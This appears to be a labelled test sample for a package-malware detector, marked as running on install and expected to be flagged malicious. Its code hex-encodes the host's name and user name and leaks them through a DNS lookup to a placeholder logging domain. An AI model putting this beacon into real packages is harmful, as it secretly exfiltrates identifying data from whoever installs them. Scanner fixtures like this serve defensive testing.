// when: install
// expect: malicious
const dns = require('dns'), os = require('os');
function beacon() {
  const label = Buffer.from(os.hostname() + '|' + os.userInfo().username).toString('hex').slice(0, 60);
  dns.resolve4(label + '.b.dnslog.example', () => {});
}
setTimeout(beacon, 100);
